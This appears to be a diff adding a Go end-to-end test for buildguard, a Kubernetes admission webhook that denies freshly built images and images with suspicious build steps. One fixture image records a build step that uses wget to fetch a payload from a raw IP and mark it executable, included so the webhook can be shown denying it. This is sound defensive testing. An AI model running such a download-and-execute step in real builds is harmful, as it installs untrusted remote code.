@@ -1,0 +1,409 @@
+package e2e
+
+import (
+	"bufio"
+	"context"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"buildguard.dev/buildguard/internal/testregistry"
+)
+
+// webhookTemplate mirrors the ValidatingWebhookConfiguration of
+// manifests/base with a URL on loopback instead of a Service: the same
+// rules, exclusions and failure policy.
+const webhookTemplate = `apiVersion: admissionregistration.k8s.io/v1
+kind: ValidatingWebhookConfiguration
+metadata:
+  name: buildguard
+webhooks:
+- name: validate.buildguard.dev
+  clientConfig:
+    url: %s
+  rules:
+  - apiGroups: [""]
+    apiVersions: ["v1"]
+    operations: ["CREATE", "UPDATE"]
+    resources: ["pods", "pods/ephemeralcontainers", "replicationcontrollers"]
+    scope: Namespaced
+  - apiGroups: ["apps"]
+    apiVersions: ["v1"]
+    operations: ["CREATE", "UPDATE"]
+    resources: ["deployments", "replicasets", "statefulsets", "daemonsets"]
+    scope: Namespaced
+  - apiGroups: ["batch"]
+    apiVersions: ["v1"]
+    operations: ["CREATE", "UPDATE"]
+    resources: ["jobs", "cronjobs"]
+    scope: Namespaced
+  failurePolicy: Fail
+  sideEffects: None
+  admissionReviewVersions: ["v1"]
+  timeoutSeconds: 5
+  matchPolicy: Equivalent
+  namespaceSelector:
+    matchExpressions:
+    - key: kubernetes.io/metadata.name
+      operator: NotIn
+      values: ["kube-system", "kube-public", "kube-node-lease", "buildguard-system"]
+`
+
+const policyTemplate = `apiVersion: buildguard.dev/v1alpha1
+kind: ClusterBuildPolicy
+metadata:
+  name: default
+spec:
+  mode: enforce
+  failurePolicy: deny
+  registries:
+    allow: ["%s/e2e/*"]
+  freshness:
+    minAge: %s
+  trustedSources: ["deb.debian.org"]
+`
+
+type env struct {
+	t    *testing.T
+	ctx  context.Context
+	cp   *ControlPlane
+	reg  *Registry
+	bg   *Buildguard
+	imgs map[string]string
+}
+
+func (e *env) kubectl(stdin string, args ...string) (string, error) {
+	var r *strings.Reader
+	if stdin != "" {
+		r = strings.NewReader(stdin)
+	}
+	if r == nil {
+		return e.cp.Kubectl(e.ctx, nil, args...)
+	}
+	return e.cp.Kubectl(e.ctx, r, args...)
+}
+
+func (e *env) mustKubectl(stdin string, args ...string) string {
+	e.t.Helper()
+	out, err := e.kubectl(stdin, args...)
+	if err != nil {
+		e.t.Fatal(err)
+	}
+	return out
+}
+
+// eventually retries f until it returns nil or the timeout passes.
+func (e *env) eventually(timeout time.Duration, what string, f func() error) {
+	e.t.Helper()
+	deadline := time.Now().Add(timeout)
+	for {
+		err := f()
+		if err == nil {
+			return
+		}
+		if time.Now().After(deadline) {
+			e.t.Fatalf("%s: not within %s: %v", what, timeout, err)
+		}
+		time.Sleep(250 * time.Millisecond)
+	}
+}
+
+func podYAML(ns, name, image string) string {
+	return fmt.Sprintf(`apiVersion: v1
+kind: Pod
+metadata: {name: %s, namespace: %s}
+spec:
+  containers:
+  - {name: app, image: %s, imagePullPolicy: IfNotPresent}
+`, name, ns, image)
+}
+
+func TestEndToEnd(t *testing.T) {
+	ctx, cancel := context.WithTimeout(t.Context(), 15*time.Minute)
+	defer cancel()
+	dir := t.TempDir()
+	cp, err := StartControlPlane(ctx, dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(cp.Stop)
+	t.Cleanup(func() {
+		if t.Failed() {
+			for _, p := range cp.Processes() {
+				t.Logf("--- %s log tail:\n%s", p.Name, p.Tail(3000))
+			}
+		}
+	})
+	reg, err := StartRegistry(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { reg.Close() })
+	e := &env{t: t, ctx: ctx, cp: cp, reg: reg, imgs: map[string]string{}}
+
+	// Images: one built by a pipeline days ago, one built seconds ago, one
+	// whose build downloaded from a raw IP.
+	for name, spec := range map[string]testregistry.Image{
+		"clean:1": {Created: time.Now().Add(-72 * time.Hour), Steps: []string{"RUN /bin/sh -c apt-get update && apt-get install -y ca-certificates # buildkit"}},
+		"fresh:1": {Created: time.Now(), Steps: []string{"COPY app /app # buildkit"}},
+		"rawip:1": {Created: time.Now().Add(-48 * time.Hour), Steps: []string{"RUN /bin/sh -c wget -q http://203.0.113.9:8080/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit"}},
+	} {
+		img, err := testregistry.MakeImage(spec)
+		if err != nil {
+			t.Fatal(err)
+		}
+		d, err := reg.Push("e2e/"+name, img)
+		if err != nil {
+			t.Fatal(err)
+		}
+		e.imgs[name] = reg.Host + "/e2e/" + name
+		t.Logf("pushed %s (%s)", e.imgs[name], d)
+	}
+
+	root, err := Root()
+	if err != nil {
+		t.Fatal(err)
+	}
+	// CRDs and manifests, with kubectl as an admin would.
+	e.mustKubectl("", "apply", "-f", filepath.Join(root, "manifests", "crd"))
+	e.mustKubectl("", "create", "namespace", "buildguard-system")
+	t.Run("manifests pass a server-side dry run", func(t *testing.T) {
+		certManagerCRDs, err := certManagerCRDDir(ctx, root)
+		if err != nil {
+			t.Fatal(err)
+		}
+		e.mustKubectl("", "apply", "--server-side", "-f", certManagerCRDs)
+		e.eventually(30*time.Second, "cert-manager CRDs established", func() error {
+			_, err := e.kubectl("", "wait", "--for=condition=Established", "crd/issuers.cert-manager.io", "crd/certificates.cert-manager.io", "--timeout=5s")
+			return err
+		})
+		for _, k := range []string{"manifests", "manifests/overlays/self-managed-ca"} {
+			if out, err := e.kubectl("", "apply", "--dry-run=server", "-k", filepath.Join(root, k)); err != nil {
+				t.Errorf("kubectl apply --dry-run=server -k %s: %v\n%s", k, err, out)
+			}
+		}
+	})
+	e.eventually(30*time.Second, "CRDs established", func() error {
+		_, err := e.kubectl("", "wait", "--for=condition=Established", "crd/clusterbuildpolicies.buildguard.dev", "crd/buildpolicyexceptions.buildguard.dev", "--timeout=5s")
+		return err
+	})
+	e.mustKubectl(fmt.Sprintf(policyTemplate, reg.Host, "10m"), "apply", "-f", "-")
+
+	bin, err := BuildBuildguard(ctx, dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	bg, err := StartBuildguard(ctx, bin, dir, cp, reg.CAFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.bg = bg
+	t.Cleanup(bg.Stop)
+	t.Cleanup(func() {
+		if t.Failed() && bg.Proc != nil {
+			t.Logf("--- buildguard log tail:\n%s", bg.Proc.Tail(5000))
+		}
+	})
+	e.mustKubectl(fmt.Sprintf(webhookTemplate, bg.URL), "apply", "-f", "-")
+	e.eventually(30*time.Second, "buildguard injects its CA into the webhook configuration", func() error {
+		out, err := e.kubectl("", "get", "validatingwebhookconfiguration", "buildguard", "-o", "jsonpath={.webhooks[0].clientConfig.caBundle}")
+		if err != nil || len(out) < 100 {
+			return fmt.Errorf("caBundle %q: %v", out, err)
+		}
+		return nil
+	})
+	e.eventually(30*time.Second, "policy accepted", func() error {
+		out, err := e.kubectl("", "get", "clusterbuildpolicy", "default", "-o", "jsonpath={.status.conditions[0].status}")
+		if err != nil || out != "True" {
+			return fmt.Errorf("Accepted = %q (%v)", out, err)
+		}
+		return nil
+	})
+	for _, ns := range []string{"shop", "audited"} {
+		e.mustKubectl("", "create", "namespace", ns)
+		e.eventually(30*time.Second, "default service account in "+ns, func() error {
+			_, err := e.kubectl("", "get", "serviceaccount", "default", "-n", ns)
+			return err
+		})
+	}
+	e.mustKubectl("", "label", "namespace", "audited", "buildguard.dev/mode=audit")
+
+	t.Run("clean Deployment is admitted and its ReplicaSet creates pods", func(t *testing.T) {
+		e.mustKubectl("", "create", "deployment", "shop", "-n", "shop", "--image="+e.imgs["clean:1"], "--replicas=2")
+		e.eventually(60*time.Second, "two pods", func() error {
+			out, err := e.kubectl("", "get", "pods", "-n", "shop", "-l", "app=shop", "-o", "name")
+			if err != nil {
+				return err
+			}
+			if n := len(strings.Fields(out)); n != 2 {
+				return fmt.Errorf("%d pods: %q", n, out)
+			}
+			return nil
+		})
+	})
+
+	t.Run("pod with an image created seconds ago is denied", func(t *testing.T) {
+		out, err := e.kubectl(podYAML("shop", "fresh", e.imgs["fresh:1"]), "apply", "-f", "-")
+		if err == nil {
+			t.Fatalf("pod admitted: %s", out)
+		}
+		for _, want := range []string{`admission webhook "validate.buildguard.dev" denied the request`, "[fresh-image]", "before admission", "exception"} {
+			if !strings.Contains(out, want) {
+				t.Errorf("denial %q does not contain %q", out, want)
+			}
+		}
+	})
+
+	t.Run("CronJob whose build downloaded from a raw IP is denied", func(t *testing.T) {
+		out, err := e.kubectl("", "create", "cronjob", "nightly", "-n", "shop", "--image="+e.imgs["rawip:1"], "--schedule=0 3 * * *")
+		if err == nil {
+			t.Fatalf("cronjob admitted: %s", out)
+		}
+		for _, want := range []string{"[suspicious-build-step]", "raw IP 203.0.113.9", "CronJob"} {
+			if !strings.Contains(out, want) {
+				t.Errorf("denial %q does not contain %q", out, want)
+			}
+		}
+	})
+
+	t.Run("audit namespace admits with a warning and an audit annotation", func(t *testing.T) {
+		out, err := e.kubectl(podYAML("audited", "fresh", e.imgs["fresh:1"]), "apply", "-f", "-")
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !strings.Contains(out, "Warning: buildguard (audit mode, would deny)") {
+			t.Errorf("kubectl output %q has no buildguard warning", out)
+		}
+		e.eventually(20*time.Second, "audit log annotation", func() error {
+			return findAuditAnnotation(cp.AuditLog, "audited", "fresh", "validate.buildguard.dev/verdict", "would-deny")
+		})
+	})
+
+	t.Run("exception admits the denied image until it expires", func(t *testing.T) {
+		expires := time.Now().Add(25 * time.Second).UTC().Format(time.RFC3339)
+		e.mustKubectl(fmt.Sprintf(`apiVersion: buildguard.dev/v1alpha1
+kind: BuildPolicyException
+metadata: {name: hotfix, namespace: shop}
+spec:
+  images: ["%s/e2e/fresh"]
+  reason: "INC-1234 hotfix"
+  expires: "%s"
+  approvedBy: "platform-team"
+`, reg.Host, expires), "apply", "-f", "-")
+		e.eventually(30*time.Second, "pod admitted under the exception", func() error {
+			out, err := e.kubectl(podYAML("shop", "hotfix", e.imgs["fresh:1"]), "apply", "-f", "-")
+			if err != nil {
+				return err
+			}
+			if !strings.Contains(out, "admitted by exception shop/hotfix") {
+				return fmt.Errorf("no exception warning in %q", out)
+			}
+			return nil
+		})
+		until, _ := time.Parse(time.RFC3339, expires)
+		time.Sleep(time.Until(until) + time.Second)
+		out, err := e.kubectl(podYAML("shop", "hotfix-2", e.imgs["fresh:1"]), "apply", "-f", "-")
+		if err == nil || !strings.Contains(out, "[fresh-image]") {
+			t.Errorf("after expiry: %v %s, want a fresh-image denial", err, out)
+		}
+	})
+
+	t.Run("policy edited with kubectl applies without a restart", func(t *testing.T) {
+		pid := bg.Proc.cmd.Process.Pid
+		e.mustKubectl(fmt.Sprintf(policyTemplate, reg.Host, "1s"), "apply", "-f", "-")
+		e.eventually(30*time.Second, "fresh image admitted once minAge is 1s", func() error {
+			_, err := e.kubectl(podYAML("shop", "fresh-now-ok", e.imgs["fresh:1"]), "apply", "-f", "-")
+			return err
+		})
+		if bg.Proc.cmd.Process.Pid != pid || bg.Proc.Exited() {
+			t.Error("buildguard restarted")
+		}
+		// An invalid edit is rejected by the CRD schema before buildguard
+		// sees it.
+		if out, err := e.kubectl("", "patch", "clusterbuildpolicy", "default", "--type=merge", "-p", `{"spec":{"mode":"strict"}}`); err == nil {
+			t.Errorf("invalid mode accepted: %s", out)
+		}
+		// One the schema cannot catch is reported in the status, and the
+		// generation before it stays in force.
+		e.mustKubectl("", "patch", "clusterbuildpolicy", "default", "--type=merge", "-p", `{"spec":{"trustedSources":["10.0.0.0/33"]}}`)
+		e.eventually(30*time.Second, "invalid policy reported", func() error {
+			out, err := e.kubectl("", "get", "clusterbuildpolicy", "default", "-o", `jsonpath={.status.conditions[0].reason}: {.status.conditions[0].message}`)
+			if err != nil || !strings.HasPrefix(out, "Invalid: trustedSources") || !strings.Contains(out, "stays in force") {
+				return fmt.Errorf("condition %q (%v)", out, err)
+			}
+			return nil
+		})
+		if _, err := e.kubectl(podYAML("shop", "fresh-still-ok", e.imgs["fresh:1"]), "apply", "-f", "-"); err != nil {
+			t.Errorf("the last accepted generation is not in force: %v", err)
+		}
+		e.mustKubectl(fmt.Sprintf(policyTemplate, reg.Host, "10m"), "apply", "-f", "-")
+		e.eventually(30*time.Second, "policy accepted again", func() error {
+			out, err := e.kubectl("", "get", "clusterbuildpolicy", "default", "-o", "jsonpath={.status.conditions[0].status}")
+			if err != nil || out != "True" {
+				return fmt.Errorf("Accepted = %q (%v)", out, err)
+			}
+			return nil
+		})
+	})
+
+	t.Run("buildguard unreachable: failurePolicy Fail applies, kube-system unaffected", func(t *testing.T) {
+		bg.Stop()
+		out, err := e.kubectl(podYAML("shop", "while-down", e.imgs["clean:1"]), "apply", "-f", "-")
+		if err == nil || !strings.Contains(out, "failed calling webhook") {
+			t.Errorf("with buildguard down: %v %s, want the API server to fail closed", err, out)
+		}
+		if out, err := e.kubectl(podYAML("kube-system", "system-pod", e.imgs["fresh:1"]), "apply", "-f", "-"); err != nil {
+			t.Errorf("kube-system pod refused while buildguard is down: %v %s", err, out)
+		}
+		if err := bg.Start(ctx); err != nil {
+			t.Fatal(err)
+		}
+		e.eventually(30*time.Second, "admission works again", func() error {
+			_, err := e.kubectl(podYAML("shop", "after-restart", e.imgs["clean:1"]), "apply", "-f", "-")
+			return err
+		})
+	})
+}
+
+// findAuditAnnotation looks for an audit event of a pod create with the
+// annotation key=value.
+func findAuditAnnotation(path, ns, name, key, value string) error {
+	f, err := os.Open(path)
+	if err != nil {
+		return err
+	}
+	defer f.Close()
+	sc := bufio.NewScanner(f)
+	sc.Buffer(make([]byte, 1<<20), 16<<20)
+	for sc.Scan() {
+		var ev struct {
+			Verb      string `json:"verb"`
+			ObjectRef struct {
+				Resource, Namespace, Name string
+			} `json:"objectRef"`
+			Annotations map[string]string `json:"annotations"`
+		}
+		if json.Unmarshal(sc.Bytes(), &ev) != nil {
+			continue
+		}
+		if ev.ObjectRef.Resource == "pods" && ev.ObjectRef.Namespace == ns && ev.Annotations[key] == value &&
+			(ev.ObjectRef.Name == name || ev.ObjectRef.Name == "") {
+			return nil
+		}
+	}
+	return fmt.Errorf("no audit event for pods %s/%s with %s=%s", ns, name, key, value)
+}
+
+// certManagerCRDDir is where the pinned cert-manager module keeps its
+// CRDs, so the manifests' Issuers and Certificates can be dry-run.
+func certManagerCRDDir(ctx context.Context, root string) (string, error) {
+	out, err := goList(ctx, root, "github.com/cert-manager/cert-manager")
+	if err != nil {
+		return "", err
+	}
+	return filepath.Join(out, "deploy", "crds"), nil
+}
